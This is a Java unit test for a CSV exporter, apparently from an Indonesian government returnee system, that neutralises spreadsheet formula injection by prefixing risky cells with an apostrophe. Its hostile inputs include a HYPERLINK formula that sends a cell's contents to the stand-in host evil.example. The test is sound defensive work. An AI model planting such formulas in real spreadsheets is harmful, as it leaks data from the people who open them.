package id.go.kemensos.returnee.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

class SpreadsheetCsvTest {

    @Test
    void cellsASpreadsheetWouldRunAsFormulasKeepTheirTextBehindAnApostrophe() throws IOException {
        List<String> hostile = List.of(
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
                "+62812345678",
                "-2+3",
                "@SUM(A1:A2)",
                "\t=1+1",
                "\r=1+1");
        String csv = SpreadsheetCsv.of(
                List.of("=header", "safe", "number", "empty"),
                hostile.stream()
                        .map(text -> java.util.Arrays.asList(text, "SITI AMINAH", new BigDecimal("-960000"), null))
                        .toList());

        assertThat(csv).startsWith("\uFEFF");
        List<CSVRecord> records = parse(csv.substring(1));
        assertThat(records.get(0).toList()).containsExactly("'=header", "safe", "number", "empty");
        for (int i = 0; i < hostile.size(); i++) {
            CSVRecord record = records.get(i + 1);
            assertThat(record.get(0))
                    .as("the text is kept, only an apostrophe in front")
                    .isEqualTo("'" + hostile.get(i));
            assertThat(record.get(1)).isEqualTo("SITI AMINAH");
            assertThat(record.get(2))
                    .as("a number stays a number, its sign too")
                    .isEqualTo("-960000");
            assertThat(record.get(3)).isEmpty();
        }
    }

    @Test
    void aGuardedCellReadsBackAsTheTextItGuards() {
        for (String text : List.of("=1+1", "+62812345678", "-2", "@SUM(A1)", "\t=1", "'quoted", "JL. MERDEKA", "'")) {
            assertThat(SpreadsheetCsv.unguarded(SpreadsheetCsv.cell(text)))
                    .as(text)
                    .isEqualTo(text);
        }
        assertThat(SpreadsheetCsv.unguarded("'DUSUN X"))
                .as("an apostrophe the clerk typed stays")
                .isEqualTo("'DUSUN X");
    }

    @Test
    void ordinaryTextIsWrittenAsItIs() {
        assertThat(SpreadsheetCsv.cell("JL. MERDEKA 1, RT 02")).isEqualTo("JL. MERDEKA 1, RT 02");
        assertThat(SpreadsheetCsv.cell("a=b")).isEqualTo("a=b");
        assertThat(SpreadsheetCsv.cell(null)).isEmpty();
        assertThat(SpreadsheetCsv.cell("")).isEmpty();
    }

    private static List<CSVRecord> parse(String csv) throws IOException {
        try (CSVParser parser = CSVFormat.DEFAULT.parse(new StringReader(csv))) {
            return parser.getRecords();
        }
    }
}
